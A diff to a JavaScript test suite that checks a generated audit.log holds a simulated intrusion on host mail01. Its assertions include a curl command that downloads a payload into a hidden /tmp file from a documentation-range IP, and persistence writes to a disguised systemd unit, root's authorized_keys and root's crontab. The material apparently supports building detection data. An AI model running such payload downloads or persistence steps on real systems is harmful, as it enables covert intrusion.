@@ -105,7 +105,7 @@ describe('generated audit.log', () => {
 
   it('has the payload download and the persistence writes on mail01', () => {
     const titles = mail.flatMap((e) => (e.records.get('PROCTITLE') ?? []).map((p) => decode(field(p, 'proctitle') ?? '')));
-    expect(titles).toContain('curl -s -o /tmp/.x http://203.0.113.50/x');
+    expect(titles).toContain('curl -o /tmp/.x http://203.0.113.50/x');
     const created = mail.flatMap((e) => (e.records.get('PATH') ?? []).filter((p) => p.includes('nametype=CREATE')).map((p) => decode(field(p, 'name') ?? '')));
     expect(created).toEqual(expect.arrayContaining(['/etc/systemd/system/netplan-sync.service', '/root/.ssh/authorized_keys', '/var/spool/cron/crontabs/root']));
     expect(mail.some((e) => e.records.has('ADD_USER'))).toBe(true);
